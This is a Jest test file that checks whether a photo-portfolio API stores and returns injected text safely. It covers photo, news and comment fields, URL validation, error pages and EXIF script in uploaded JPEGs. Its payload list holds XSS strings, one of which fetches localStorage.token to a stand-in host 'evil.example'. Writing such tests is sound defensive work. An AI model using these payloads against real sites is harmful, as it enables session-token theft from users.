import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { aJpegWithScripts, createPhoto, PAYLOAD } from '@portfolio/testing';
import { BOUNDARY, multipart } from '../multipart.ts';
import { startTestApi, type TestApi } from '../start-test-api.ts';

/** Feeds, share tags and pages are in public-web/server/security/stored-xss.test.ts. */
const TEXTS = [
  '<script>fetch("//evil.example/?"+localStorage.token)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '</title></textarea></style><svg/onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
];

let api: TestApi;
let admin: Awaited<ReturnType<TestApi['signIn']>>;
beforeAll(async () => {
  api = await startTestApi();
  admin = await api.signIn();
});
afterAll(() => api.stop());
beforeEach(() => api.database.query('truncate photos, galleries, news_items, messages restart identity cascade'));

/** It is data for programs, and stays that where somebody opens its address in a browser. */
function expectNoPage({ headers }: { headers: Record<string, string> }) {
  expect(headers['content-type']).toMatch(/^application\/json/);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['content-security-policy']).toMatch(/^default-src 'none';.*; sandbox$/);
}

describe.each(TEXTS)('%s', (text) => {
  it('is kept as it was typed, and answered as data that no browser takes for a page', async () => {
    const photo = await createPhoto(api.database);
    const details = { title: text, description: text, alt_text: text };
    expectNoPage(await admin.put(`/api/photos/${photo.id}`).send(details).expect(200));
    await admin.post('/api/news').send({ headline: text, content: text }).expect(201);
    const comment = { photo_id: photo.id, author_name: 'Ruth', author_email: 'ruth@example.com', content: text };
    expectNoPage(await api.visitor.post('/api/comments').send(comment).expect(201));

    const answer = await api.visitor.get(`/api/photos/${photo.id}`).expect(200);
    expect(answer.body.photo).toMatchObject(details);
    expectNoPage(answer);
    expectNoPage(await api.visitor.get('/api/photos').query({ search: text }).expect(200));
    expectNoPage(await admin.get('/api/comments').expect(200));
  });

  it('is no slug, and no address that a page would link to', async () => {
    await admin.post('/api/galleries').send({ title: 'x', slug: text }).expect(400);
    const { body } = await admin.post('/api/news').send({ headline: 'x', link: text }).expect(400);
    expect(Object.keys(body.errors)).toEqual(['link']);
    for (const name of ['licence_url', 'social_links']) {
      const settings = { [name]: text };
      const answer = await admin.put('/api/admin/settings/website').send({ settings }).expect(400);
      expect(Object.keys(answer.body.errors)).toEqual([name]);
    }
  });

  it('is not repeated by a failure as a page', async () => {
    expectNoPage(await api.visitor.get(`/api/galleries/${encodeURIComponent(text)}`));
    expectNoPage(await api.visitor.get(`/media/1/2/${encodeURIComponent(text)}`));
    expectNoPage(await api.visitor.get(`/${encodeURIComponent(text)}`));
  });
});

it('a script in the EXIF of a picture is nowhere in what the API tells of it', async () => {
  const jpeg = await aJpegWithScripts();
  expect(jpeg.includes(PAYLOAD)).toBe(true);
  const form = multipart([
    { name: 'title', content: 'Harbour' },
    { name: 'image', filename: 'harbour.jpg', type: 'text/html', content: jpeg },
  ]);
  const { body } = await admin
    .post('/api/photos/upload')
    .set('content-type', `multipart/form-data; boundary=${BOUNDARY}`)
    .send(form)
    .expect(201);

  const told = await admin.get(`/api/photos/${body.photo.id}`).expect(200);
  expect(told.text).not.toMatch(/<script|payload|html/);
});

it('the description of the API is the one page of it, and runs no script but its own', async () => {
  const { headers } = await api.visitor.get('/api/docs').expect(200);

  expect(headers['content-security-policy']).toMatch(/script-src 'self';.*frame-ancestors 'none'/);
  expect(headers['content-security-policy']).not.toMatch(/script-src[^;]*unsafe/);
  expect(headers['x-frame-options']).toBe('DENY');
});
